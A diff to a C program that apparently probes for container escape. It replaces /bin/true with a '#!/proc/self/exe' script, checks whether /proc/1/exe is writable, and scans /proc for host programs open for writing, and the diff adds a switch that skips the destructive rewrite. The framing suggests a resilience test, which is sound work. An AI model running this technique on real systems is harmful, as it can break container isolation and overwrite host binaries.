@@ -16,13 +16,16 @@ static bool writable(const char *path) {
 }
 
 int main(void) {
-    char path[64], target[300];
+    char path[64], target[300], own[300] = "";
     int came = 0;
     bool got = false;
-    unlink("/bin/true");
-    int script = open("/bin/true", O_CREAT | O_WRONLY | O_TRUNC | O_CLOEXEC, 0755);
-    if (script < 0 || write(script, "#!/proc/self/exe\n", 17) != 17) info("the image's commands cannot be changed");
-    close(script);
+    if (readlink("/proc/self/exe", own, sizeof own - 1) < 0) info("its own program has no name");
+    if (getenv("ATTACK_LOOK") == NULL) {
+        unlink("/bin/true");
+        int script = open("/bin/true", O_CREAT | O_WRONLY | O_TRUNC | O_CLOEXEC, 0755);
+        if (script < 0 || write(script, "#!/proc/self/exe\n", 17) != 17) info("the image's commands cannot be changed");
+        close(script);
+    }
     say(writable("/proc/1/exe"), "the program of process 1");
     while (access("/tmp/stop", F_OK) != 0) {
         DIR *processes = opendir("/proc");
@@ -33,8 +36,8 @@ int main(void) {
             ssize_t length = readlink(path, target, sizeof target - 1);
             if (length <= 0) continue;
             target[length] = '\0';
-            // what lies in the image is the machine's own
-            if (strncmp(target, "/bin/", 5) == 0) continue;
+            // what lies in the image is the machine's own; this program is the payload's
+            if (strncmp(target, "/bin/", 5) == 0 || strcmp(target, own) == 0) continue;
             came++;
             if (!got && writable(path)) {
                 survived("a program of the node's is open for writing: %s", target);
